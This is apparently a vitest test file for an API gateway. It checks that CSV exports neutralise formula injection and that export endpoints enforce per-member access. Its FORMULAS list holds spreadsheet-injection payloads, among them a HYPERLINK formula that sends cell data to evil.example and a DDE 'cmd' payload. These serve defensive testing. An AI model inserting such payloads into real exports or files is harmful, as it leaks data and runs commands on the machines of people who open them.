import { describe, expect, it } from 'vitest'
import { startSignedIn } from './signed-in.ts'

/** Names that a spreadsheet would take for a formula. */
const FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1)', "+cmd|' /C calc'!A0", '-2+3', '@SUM(1+1)', '＝1+1']

type World = Awaited<ReturnType<typeof startSignedIn>>
type Person = World['owner']

interface Row {
  readonly model: string
  readonly keyName: string | null
}

/** Cells of comma-separated values (RFC 4180). */
function cellsOf(csv: string): readonly string[] {
  return [...csv.matchAll(/(?:^|,|\r\n)(?:"((?:[^"]|"")*)"|([^",\r\n]*))/g)].map(
    ([, quoted, plain]) => quoted?.replaceAll('""', '"') ?? plain ?? '',
  )
}

async function exported(who: Person, path: string): Promise<string> {
  const response = await who.ask(path)
  const text = await response.text()
  expect(response.status, `${path} ${text}`).toBe(200)
  return text
}

const rowsOf = async (who: Person, query = ''): Promise<readonly Row[]> =>
  (await exported(who, `/usage/export?format=ndjson${query}`))
    .trim()
    .split('\n')
    .filter((line) => line !== '')
    .map((line) => JSON.parse(line) as Row)

function chat({ gateway }: World, key: string, body: object, headers: Readonly<Record<string, string>> = {}) {
  return fetch(`${gateway.url}/v1/chat/completions`, {
    method: 'POST',
    headers: { authorization: `Bearer ${key}`, 'content-type': 'application/json', ...headers },
    body: JSON.stringify({ model: 'demo', messages: [{ role: 'user', content: 'Hi' }], ...body }),
  }).then((response) => response.text())
}

describe('Attacks by exports', () => {
  it('by names, models, tags, end users and sessions that begin like a formula are text', async () => {
    const world = await startSignedIn({ providers: { demo: {} } })
    for (const formula of FORMULAS) {
      const { id: project } = await world.owner.read<{ id: string }>('/projects', { body: { name: formula } })
      const { key } = await world.owner.read<{ key: string }>('/keys', { body: { name: formula, project } })
      const claims = formula.startsWith('＝') ? {} : { 'headgate-session': formula, 'headgate-tags': `team=${formula}` }
      await chat(world, key, {})
      await chat(world, key, { user: formula }, claims)
      // A refused request has the model that its caller named.
      await chat(world, key, { model: formula, user: formula })
    }
    const month = new Date().toISOString().slice(0, 7)
    for (const path of [
      '/usage/export?format=csv',
      '/audit/export?format=csv',
      `/spend/statement?format=csv&month=${month}&zone=UTC`,
    ]) {
      const cells = cellsOf(await exported(world.owner, path))
      const text = cells.join('\n')
      for (const formula of FORMULAS) if (!path.startsWith('/audit')) expect(text, path).toContain(`'${formula}`)
      expect(
        cells.filter((cell) => /^[=+\-@\t\r\n＝＋－＠]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell)),
        path,
      ).toEqual([])
    }
  })

  it('of members have their own rows only, whatever they filter, and strangers get none', async () => {
    const world = await startSignedIn({ providers: { demo: {} } })
    const { id: project } = await world.owner.read<{ id: string }>('/projects', { body: { name: 'Secret project' } })
    const of = async (who: Person, body: object) => {
      const created = await who.read<{ key: string; stored: { id: string } }>('/keys', { body })
      await chat(world, created.key, {})
      await chat(world, created.key, { model: 'unknown-model' })
      return created.stored.id
    }
    const [ada, bob] = [world.owner, await world.member('member')]
    const own = await of(bob, { name: 'of Bob' })
    const others = await of(ada, { name: 'of Ada', project })
    const all = (await rowsOf(ada)).map(({ keyName, model }) => `${keyName} ${model}`).sort()
    expect(all).toEqual(['of Ada demo', 'of Ada unknown-model', 'of Bob demo', 'of Bob unknown-model'])

    const { items } = await ada.read<{ items: { id: string; role: string }[] }>('/members')
    const owner = items.find(({ role }) => role === 'owner')?.id
    for (const query of ['', `&key=${own}`, '&outcome=refused', '&outcome=served,refused'])
      for (const { keyName } of await rowsOf(bob, query)) expect(keyName, query).toBe('of Bob')
    expect((await rowsOf(bob)).length).toBe(2)
    for (const query of [`&key=${others}`, `&project=${project}`, `&member=${owner}`, `&key=${others}&outcome=refused`])
      expect(await rowsOf(bob, query), query).toEqual([])
    expect(await exported(bob, '/usage/export?format=csv')).not.toMatch(/of Ada|Secret project/)
    const month = new Date().toISOString().slice(0, 7)
    const statement = await exported(bob, `/spend/statement?format=csv&month=${month}&zone=UTC`)
    expect(statement).not.toMatch(/Secret project/)
    expect(statement).not.toContain('\r\nprovider,')
    for (const path of ['/organization/export', '/audit/export?format=csv'])
      expect((await bob.ask(path)).status, path).toBe(403)
    const viewer = await world.member('viewer')
    for (const path of ['/organization/export', '/audit/export?format=csv'])
      expect((await viewer.ask(path)).status, path).toBe(403)
    for (const path of ['/usage/export', '/spend/statement?format=csv', '/organization/export', '/audit/export'])
      expect((await world.nobody.ask(path)).status, path).toBe(401)
    expect((await bob.ask('/usage/export?organization=org_other')).status).toBeGreaterThanOrEqual(403)
  })
})
